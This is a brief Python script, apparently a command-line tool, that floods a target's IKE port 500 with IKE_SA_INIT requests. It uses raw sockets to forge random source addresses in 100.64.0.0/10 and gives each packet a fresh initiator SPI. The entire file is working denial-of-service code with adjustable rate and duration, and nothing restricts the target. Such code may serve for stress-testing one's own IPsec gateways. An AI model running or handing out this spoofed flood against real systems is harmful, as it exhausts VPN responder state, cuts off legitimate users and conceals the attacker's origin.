# Sends an IKE_SA_INIT request (the template file) from random spoofed IPv4 sources in 100.64.0.0/10,
# each with a fresh SPIi, to the target at the given rate for the given seconds, through a raw socket.
# Usage: python3 spoofed_ike_sa_init.py <template> <target IPv4> <seconds> <per second>
# Prints "SENT <n> in <s> s" about every 5,000 datagrams.
import os, socket, struct, sys, time
template = open(sys.argv[1], 'rb').read()
target = socket.inet_aton(sys.argv[2])
start = time.time()
end = start + float(sys.argv[3])
rate = int(sys.argv[4])
s = socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_RAW)
s.setsockopt(socket.IPPROTO_IP, socket.IP_HDRINCL, 1)
udp_length = 8 + len(template)
sent = 0
while time.time() < end:
    if sent > rate * (time.time() - start):
        time.sleep(0.002)
        continue
    for _ in range(50):
        r = os.urandom(11)
        source = bytes([100, 64 | (r[0] & 63), r[1], r[2]])
        ip = struct.pack('!BBHHHBBH4s4s', 0x45, 0, 20 + udp_length, 0, 0, 64, 17, 0, source, target)
        udp = struct.pack('!HHHH', 500, 500, udp_length, 0)
        try:
            s.sendto(ip + udp + r[3:11] + template[8:], (sys.argv[2], 0))
            sent += 1
        except OSError:
            pass
    if sent % 5000 < 50:
        print('SENT', sent, 'in', round(time.time() - start, 1), 's', flush=True)
